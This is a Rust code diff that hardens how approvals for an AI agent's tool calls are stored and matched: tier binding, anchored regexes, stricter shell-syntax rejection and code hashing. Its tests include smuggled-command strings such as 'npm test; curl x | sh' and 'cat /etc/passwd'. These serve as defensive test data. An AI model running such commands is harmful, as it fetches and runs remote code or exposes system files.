@@ -21,6 +21,8 @@ use std::sync::{Mutex, PoisonError};
 use std::time::SystemTime;
 
 use regex::RegexBuilder;
+
+use crate::policy::{Policy, Runner};
 use serde::{Deserialize, Serialize};
 use sha2::{Digest as _, Sha256};
 
@@ -66,6 +68,9 @@ pub struct Entry {
     pub id: String,
     /// The tool.
     pub tool: String,
+    /// The tier of the call the person approved: it covers calls decided at
+    /// that tier only (a rule that raises a call to `confirm` is asked anew).
+    pub tier: Tier,
     /// What it covers.
     #[serde(rename = "match")]
     pub matches: Match,
@@ -113,16 +118,31 @@ pub fn until_time(until: &str) -> Option<SystemTime> {
 }
 
 /// The sha256 of what a person approved of `spec`: its policy entry (without
-/// the places in the file, so editing another table keeps it), description and
-/// input schema.
-pub fn definition(spec: &ToolSpec, description: &str, schema: &serde_json::Value) -> String {
+/// the places in the file, so editing another table keeps it), the code that
+/// runs it (its plugin's source and sha256, or its server's entry),
+/// description and input schema.
+pub fn definition(policy: &Policy, spec: &ToolSpec, description: &str, schema: &serde_json::Value) -> String {
     let mut spec = spec.clone();
     spec.location.clear();
     for r in &mut spec.rules {
         r.location.clear();
     }
+    let code = match &spec.runner {
+        Runner::Plugin(p) => format!("{:?}", policy.plugins.get(p).map(|p| (&p.source, &p.sha256))),
+        Runner::Command(c) => format!("{:?}", policy.plugins.get(&c.plugin).map(|p| (&p.source, &p.sha256))),
+        Runner::Server(s) => {
+            let mut server = policy.servers.get(&s.server).cloned();
+            if let Some(server) = &mut server {
+                server.location.clear();
+            }
+            format!("{server:?}")
+        }
+        Runner::Process(_) => String::new(),
+    };
     let mut h = Sha256::new();
     h.update(format!("{spec:?}").as_bytes());
+    h.update([0]);
+    h.update(code.as_bytes());
     h.update([0]);
     h.update(description.as_bytes());
     h.update([0]);
@@ -139,9 +159,21 @@ impl Entry {
             _ => {}
         }
         for (key, re) in &self.when {
-            if let Err(e) = RegexBuilder::new(re).size_limit(MAX_REGEX).build() {
-                return Some(format!("when.{key}: the regex does not compile: {e}"));
+            match anchored(re) {
+                Err(e) => return Some(format!("when.{key}: the regex does not compile: {e}")),
+                Ok(rx) if rx.is_match("") => {
+                    return Some(format!(
+                        "when.{key} = {re:?} matches an empty value: name what it covers (it is anchored at both ends)"
+                    ));
+                }
+                Ok(_) => {}
             }
+        }
+        if self.matches == Match::Tool && self.tier == Tier::Confirm {
+            return Some("match = \"tool\" on a confirm tool: confirm calls are approved per call".into());
+        }
+        if !matches!(self.tier, Tier::Ask | Tier::Confirm) {
+            return Some(format!("tier = \"{}\": only ask and confirm calls are approved", self.tier));
         }
         match self.scope {
             Scope::Session if self.session.is_none() => return Some("scope = \"session\" without session".into()),
@@ -167,6 +199,7 @@ impl Entry {
     pub fn covers(&self, req: &Request<'_>, definition: &str, workspace: &Path, now: SystemTime) -> bool {
         if self.tool != req.tool
             || self.definition != definition
+            || self.tier != req.tier
             || !matches!(req.tier, Tier::Ask | Tier::Confirm)
             || self.expired(now)
             || self.problem().is_some()
@@ -187,7 +220,7 @@ impl Entry {
                     } else {
                         ArgSelector::Name(key.clone())
                     };
-                    let Ok(re) = RegexBuilder::new(re).size_limit(MAX_REGEX).build() else { return false };
+                    let Ok(re) = anchored(re) else { return false };
                     sel.select(req.args).is_some_and(|v| re.is_match(v) && !has_shell_syntax(v))
                 }),
             }
@@ -195,9 +228,16 @@ impl Entry {
 }
 
 /// A rule-scoped approval, like an `auto` rule, applies only to values without
-/// shell syntax: `npm test` approved by `^npm test` never covers `npm test; curl …`.
+/// shell syntax: `npm test` approved by `npm test` never covers `npm test; curl …`.
+/// Stricter than an auto rule: no expansion (`$`), comment (`#`) or glob either.
 fn has_shell_syntax(v: &str) -> bool {
-    v.contains([';', '&', '|', '`', '<', '>', '(', ')', '\n', '\r']) || v.contains("$(")
+    !crate::policy::is_simple_command(v) || v.contains(['$', '#', '*', '?', '[', '~'])
+}
+
+/// `re` anchored at both ends: a lasting rule names whole values, so
+/// `npm test` never covers `cat secrets #npm test`.
+fn anchored(re: &str) -> Result<regex::Regex, regex::Error> {
+    RegexBuilder::new(&format!("^(?:{re})$")).size_limit(MAX_REGEX).build()
 }
 
 /// The file's stamp (modified, inode) when last read, and its entries.
@@ -275,9 +315,12 @@ pub fn update<T>(path: &Path, edit: impl FnOnce(&mut Vec<Entry>) -> Result<T, St
         .create(true)
         .truncate(false)
         .mode(0o600)
-        .custom_flags(libc::O_NOFOLLOW)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
         .open(&lock_path)
         .map_err(|e| format!("cannot lock {}: {e}", lock_path.display()))?;
+    if !lock.metadata().is_ok_and(|m| m.is_file()) {
+        return Err(format!("{} is not a regular file; remove it", lock_path.display()));
+    }
     let _held = nix::fcntl::Flock::lock(lock, nix::fcntl::FlockArg::LockExclusive)
         .map_err(|(_, e)| format!("cannot lock {}: {e}", lock_path.display()))?;
     let mut entries = read(path)?;
@@ -352,6 +395,7 @@ mod tests {
         Entry {
             id: "l-1".into(),
             tool: "shell".into(),
+            tier: Tier::Ask,
             matches,
             args_sha256: Some("h".into()),
             when: BTreeMap::from([("command".to_string(), "^npm test$".to_string())]),
@@ -378,17 +422,29 @@ mod tests {
         let evil = serde_json::json!({"command": "npm test; curl x | sh"});
         let rule = entry(Match::Rule);
         assert!(rule.covers(&req(Tier::Ask, &npm, "x"), "d", w, now));
-        assert!(rule.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now));
+        assert!(!rule.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "a rule raised it to confirm");
+        let unanchored = serde_json::json!({"command": "cat /etc/passwd xnpm testy"});
+        assert!(!rule.covers(&req(Tier::Ask, &unanchored, "x"), "d", w, now), "anchored at both ends");
+        let expansion = serde_json::json!({"command": "npm test $HOME"});
+        let mut loose = entry(Match::Rule);
+        loose.when.insert("command".into(), "npm test.*".into());
+        assert!(!loose.covers(&req(Tier::Ask, &expansion, "x"), "d", w, now), "no expansion");
+        loose.when.insert("command".into(), ".*".into());
+        assert!(loose.problem().unwrap().contains("matches an empty value"));
         assert!(!rule.covers(&req(Tier::Ask, &evil, "x"), "d", w, now), "shell syntax is never covered");
         assert!(!rule.covers(&req(Tier::Ask, &npm, "x"), "changed", w, now), "a changed definition");
         assert!(!rule.covers(&req(Tier::Ask, &npm, "x"), "d", Path::new("/other"), now), "another workspace");
         assert!(!rule.covers(&req(Tier::Deny, &npm, "x"), "d", w, now), "deny is never covered");
-        let args = entry(Match::Args);
+        let mut args = entry(Match::Args);
+        args.tier = Tier::Confirm;
         assert!(args.covers(&req(Tier::Confirm, &npm, "h"), "d", w, now));
         assert!(!args.covers(&req(Tier::Confirm, &npm, "h2"), "d", w, now));
         let tool = entry(Match::Tool);
         assert!(tool.covers(&req(Tier::Ask, &evil, "x"), "d", w, now));
         assert!(!tool.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "confirm needs args or a rule");
+        let mut tool_confirm = entry(Match::Tool);
+        tool_confirm.tier = Tier::Confirm;
+        assert!(!tool_confirm.covers(&req(Tier::Confirm, &npm, "x"), "d", w, now), "never every confirm call");
         let mut old = entry(Match::Tool);
         old.until = Some("2020-01-01".into());
         assert!(!old.covers(&req(Tier::Ask, &npm, "x"), "d", w, now), "expired");
